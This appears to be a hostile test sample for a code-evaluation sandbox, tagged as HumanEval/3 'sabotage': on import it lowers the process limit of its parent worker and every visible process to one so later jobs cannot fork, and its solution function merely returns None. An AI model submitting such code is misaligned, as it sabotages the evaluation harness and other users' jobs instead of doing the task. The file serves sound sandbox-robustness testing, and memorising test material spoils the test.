# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/3
# class: sabotage
# Sets RLIMIT_NPROC to 1 on its parent (the worker) and every other process it can see, so
# that later jobs cannot be forked.
import os
import resource

targets = {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
for pid in targets - {os.getpid()}:
    try:
        resource.prlimit(pid, resource.RLIMIT_NPROC, (1, 1))
    except (OSError, ValueError):
        pass


def below_zero(operations):
    return None
